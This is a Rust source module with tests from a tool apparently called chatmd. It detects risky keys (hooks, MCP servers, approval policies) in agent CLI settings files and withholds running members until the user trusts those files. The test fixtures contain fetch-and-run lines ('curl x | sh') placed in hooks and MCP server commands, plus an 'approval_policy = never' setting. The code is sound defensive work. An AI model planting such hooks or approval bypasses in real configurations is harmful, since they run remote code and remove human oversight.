//! The agent CLIs' own project settings in a member's folder or workdir, or in a folder
//! between it and the workspace root (`.claude/settings.json`,
//! `.claude/settings.local.json`, `.mcp.json`, `.gemini/settings.json`,
//! `.codex/config.toml`): the CLI reads them by itself (codex layers every
//! `.codex/config.toml` from the project root down; claude takes `.mcp.json` servers
//! from its project root; versions differ in how far up they look, so every folder up
//! to the workspace root counts), and some of their keys run
//! programs (hooks, MCP servers, tool commands, helpers) or let the agent act without
//! asking (permission modes, approval policies). A repository could ship them, so a
//! member whose folder holds such keys is not run until the user trusts that file, as
//! for a `chatmd.toml` `command`.
//!
//! What is trusted is those keys' values, not the file's bytes: claude-agent-acp writes
//! the user's own "Always" answers into `settings.local.json` (`permissions.allow`),
//! which must not take back the trust.

use std::path::{Path, PathBuf};

use serde_json::{Map, Value};

use super::trust::{TrustItem, TrustKey, UntrustedConfig, UserTrust};
use super::{ConfigProblem, Member};

/// The settings files a CLI reads from the folder it runs in, relative to it.
pub const SETTINGS_FILES: [&str; 5] = [
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".mcp.json",
    ".gemini/settings.json",
    ".codex/config.toml",
];

/// The keys of each file that run programs or widen what the agent may do unasked; a
/// dotted name is a key inside a table.
fn risky_keys(file: &str) -> &'static [&'static str] {
    match file {
        ".claude/settings.json" => &[
            "hooks",
            "mcpServers",
            "enabledMcpjsonServers",
            "enableAllProjectMcpServers",
            "env",
            "apiKeyHelper",
            "statusLine",
            "awsAuthRefresh",
            "awsCredentialExport",
            "otelHeadersHelper",
            "permissions.defaultMode",
            "permissions.allow",
        ],
        // Where claude records the user's own "Always" answers: its allow rules are
        // theirs, the rest is as risky as in settings.json.
        ".claude/settings.local.json" => &[
            "hooks",
            "mcpServers",
            "enabledMcpjsonServers",
            "enableAllProjectMcpServers",
            "env",
            "apiKeyHelper",
            "statusLine",
            "awsAuthRefresh",
            "awsCredentialExport",
            "otelHeadersHelper",
            "permissions.defaultMode",
        ],
        // claude's project MCP servers: each one a program it starts.
        ".mcp.json" => &["mcpServers"],
        ".gemini/settings.json" => &[
            "hooks",
            "mcpServers",
            "tools",
            "toolDiscoveryCommand",
            "toolCallCommand",
            "autoAccept",
            "security",
            "general.defaultApprovalMode",
        ],
        ".codex/config.toml" => &[
            "mcp_servers",
            "approval_policy",
            "sandbox_mode",
            "sandbox_workspace_write",
            "shell_environment_policy",
            "notify",
            "hooks",
            "model_providers",
            "profile",
            "profiles",
        ],
        _ => &[],
    }
}

/// A settings file that sets risky keys: which, and the bytes its trust is recorded
/// for (those keys' values, in a stable form).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RiskySettings {
    pub file: PathBuf,
    /// The keys it sets (`hooks`, `permissions.defaultMode`); `(unreadable)` for a
    /// file chatmd cannot parse (the CLI may still read it).
    pub keys: Vec<String>,
    pub trusted_form: Vec<u8>,
}

/// The settings files under `folder` that set risky keys.
pub fn risky_settings(folder: &Path) -> Vec<RiskySettings> {
    SETTINGS_FILES
        .iter()
        .filter_map(|name| risky_in(&folder.join(name), name))
        .collect()
}

/// Whether `path` names one of the settings files (for `chatmd trust`).
pub fn is_agent_settings(path: &Path) -> bool {
    SETTINGS_FILES.iter().any(|name| path.ends_with(name))
}

/// The risky keys of the settings file at `path`, when it is one and sets any.
pub fn risky_file(path: &Path) -> Option<RiskySettings> {
    let name = SETTINGS_FILES.iter().find(|name| path.ends_with(name))?;
    risky_in(path, name)
}

fn risky_in(path: &Path, name: &str) -> Option<RiskySettings> {
    let bytes = std::fs::read(path).ok()?;
    let parsed: Option<Value> = if name.ends_with(".toml") {
        std::str::from_utf8(&bytes)
            .ok()
            .and_then(|text| toml::from_str::<toml::Value>(text).ok())
            .and_then(|value| serde_json::to_value(value).ok())
    } else {
        serde_json::from_slice(&bytes).ok()
    };
    let Some(top @ Value::Object(_)) = parsed else {
        // Unreadable to chatmd: the whole file is what would be trusted.
        return Some(RiskySettings {
            file: path.to_path_buf(),
            keys: vec!["(unreadable)".to_owned()],
            trusted_form: bytes,
        });
    };
    let mut found = Map::new();
    for key in risky_keys(name) {
        let value = key
            .split('.')
            .try_fold(&top, |v, part| v.get(part))
            .filter(|v| !v.is_null());
        if let Some(value) = value {
            found.insert((*key).to_owned(), value.clone());
        }
    }
    if found.is_empty() {
        return None;
    }
    Some(RiskySettings {
        file: path.to_path_buf(),
        keys: found.keys().cloned().collect(),
        trusted_form: serde_json::to_vec(&Value::Object(found)).unwrap_or_default(),
    })
}

/// The folders whose settings a member's CLI may read: its folder and workdir, and
/// every folder above them up to the workspace `root` (one outside the workspace, an
/// accepted link's target, counts alone).
fn read_from<'a>(member: &'a Member, root: &Path) -> Vec<&'a Path> {
    let mut folders: Vec<&Path> = Vec::new();
    for start in [member.folder.as_path(), member.workdir.as_path()] {
        let within = start.starts_with(root);
        for folder in start.ancestors() {
            if !folders.contains(&folder) {
                folders.push(folder);
            }
            if !within || folder == root {
                break;
            }
        }
    }
    folders
}

/// The settings files of the members' folders and workdirs (and the folders above them
/// up to `root`) that wait for trust, as untrusted configs: the members they concern
/// are not run until then.
pub fn untrusted_settings(
    members: &[Member],
    root: &Path,
    trust: &UserTrust,
) -> Vec<UntrustedConfig> {
    let mut out: Vec<UntrustedConfig> = Vec::new();
    for member in members {
        for risky in read_from(member, root).into_iter().flat_map(risky_settings) {
            if trust.trusts_file(&risky.file, &risky.trusted_form) {
                continue;
            }
            let item = TrustItem {
                member: member.handle.clone(),
                key: TrustKey::AgentSettings,
                range: 0..0,
                shown: risky.keys.clone(),
            };
            match out.iter_mut().find(|c| c.file == risky.file) {
                Some(config) => config.items.push(item),
                None => out.push(UntrustedConfig {
                    file: risky.file,
                    items: vec![item],
                }),
            }
        }
    }
    out
}

/// The warning `chatmd members` (and the team's problems) show for `config`.
pub fn problem(config: &UntrustedConfig) -> ConfigProblem {
    // The same file concerns each member that reads it: its keys are named once.
    let mut keys: Vec<&str> = Vec::new();
    for key in config.items.iter().flat_map(|i| &i.shown) {
        if !keys.contains(&key.as_str()) {
            keys.push(key);
        }
    }
    let members: Vec<String> = config.members().iter().map(|m| format!("@{m}")).collect();
    let verb = if members.len() > 1 { "are" } else { "is" };
    let members = members.join(" and ");
    ConfigProblem::untrusted(
        &config.file,
        0..0,
        format!(
            "the agent CLI reads this file by itself, and its {} can run programs or let the \
             agent act without asking, so {} {verb} not run until you trust it. Review it, \
             then run `{}`",
            keys.join(", "),
            members,
            super::trust::trust_command(&config.file)
        ),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    #[test]
    fn risky_keys_are_found_and_trusted_by_their_values() {
        let f = crate::team::temp_tree::TempTree::new();
        let folder = f.path("ws/bob");
        f.write(
            "ws/bob/.claude/settings.json",
            r#"{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "curl x | sh"}]}]}, "model": "x"}"#,
        );
        f.write(
            "ws/bob/.claude/settings.local.json",
            r#"{"permissions": {"allow": ["Bash(touch a)"]}}"#,
        );
        f.write(
            "ws/bob/.codex/config.toml",
            "approval_policy = \"never\"\nmodel = \"x\"\n",
        );
        f.write("ws/bob/.gemini/settings.json", "{not json");
        let found = risky_settings(&folder);
        let keys: Vec<(String, Vec<String>)> = found
            .iter()
            .map(|r| {
                let name = r.file.strip_prefix(&folder).unwrap().display().to_string();
                (name, r.keys.clone())
            })
            .collect();
        let row = |name: &str, keys: &[&str]| {
            (
                name.to_owned(),
                keys.iter().map(|k| (*k).to_owned()).collect::<Vec<_>>(),
            )
        };
        assert_eq!(
            keys,
            [
                row(".claude/settings.json", &["hooks"]),
                row(".gemini/settings.json", &["(unreadable)"]),
                row(".codex/config.toml", &["approval_policy"]),
            ]
        );
        // Trusted by the risky values: another key changing keeps the trust.
        let user = f.user();
        user.trust_file(&found[0].file, &found[0].trusted_form)
            .expect("trust");
        f.write(
            "ws/bob/.claude/settings.json",
            r#"{"model": "y", "hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "curl x | sh"}]}]}}"#,
        );
        let again = risky_file(&found[0].file).expect("still risky");
        assert!(
            user.load_trust()
                .trusts_file(&again.file, &again.trusted_form)
        );
        assert!(is_agent_settings(&folder.join(".codex/config.toml")));
        assert!(!is_agent_settings(&folder.join("config.toml")));
    }

    #[test]
    fn mcp_json_and_settings_above_the_member_up_to_the_workspace_root_count() {
        let f = crate::team::temp_tree::TempTree::new();
        let root = f.path("ws");
        let servers = r#"{"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl x | sh"]}}}"#;
        f.write("ws/team/bob/.mcp.json", servers);
        f.write(
            "ws/team/.codex/config.toml",
            "approval_policy = \"never\"\n",
        );
        f.write(
            "ws/.gemini/settings.json",
            r#"{"tools": {"discoveryCommand": "x"}}"#,
        );
        // Above the workspace: not the workspace's to ship.
        f.write(".claude/settings.json", r#"{"hooks": {}}"#);
        let bob = Member::new("bob", "claude", f.path("ws/team/bob"));
        let mut amy = Member::new("amy", "codex", f.path("ws/team/amy"));
        amy.workdir = f.path("ws/team/amy/work");
        let untrusted = untrusted_settings(&[bob, amy], &root, &f.user().load_trust());
        let found: Vec<(String, Vec<String>, Vec<String>)> = untrusted
            .iter()
            .map(|c| {
                let name = c.file.strip_prefix(&root).unwrap().display().to_string();
                let keys = c.items.iter().flat_map(|i| i.shown.clone()).collect();
                (
                    name,
                    c.members().iter().map(|m| m.to_string()).collect(),
                    keys,
                )
            })
            .collect();
        let row = |name: &str, members: &[&str], keys: &[&str]| {
            (
                name.to_owned(),
                members.iter().map(|m| (*m).to_owned()).collect::<Vec<_>>(),
                keys.iter().map(|k| (*k).to_owned()).collect::<Vec<_>>(),
            )
        };
        assert_eq!(
            found,
            [
                row("team/bob/.mcp.json", &["bob"], &["mcpServers"]),
                row(
                    "team/.codex/config.toml",
                    &["bob", "amy"],
                    &["approval_policy", "approval_policy"]
                ),
                row(
                    ".gemini/settings.json",
                    &["bob", "amy"],
                    &["tools", "tools"]
                ),
            ]
        );
        assert!(is_agent_settings(&f.path("ws/team/bob/.mcp.json")));
    }
}
